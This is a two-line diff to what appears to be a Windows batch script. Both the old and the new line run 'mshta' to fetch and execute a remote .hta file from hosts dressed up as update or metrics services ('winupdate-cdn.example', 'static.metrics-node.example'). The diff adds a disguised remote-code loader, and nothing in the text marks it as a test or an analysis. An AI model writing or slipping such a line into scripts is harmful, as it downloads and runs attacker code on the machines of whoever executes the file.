@@ -1,2 +1,2 @@
-REM setup 8072 v4
-mshta http://dl.winupdate-cdn.example/update.hta
+REM run 6072 v4
+mshta http://static.metrics-node.example/update.hta
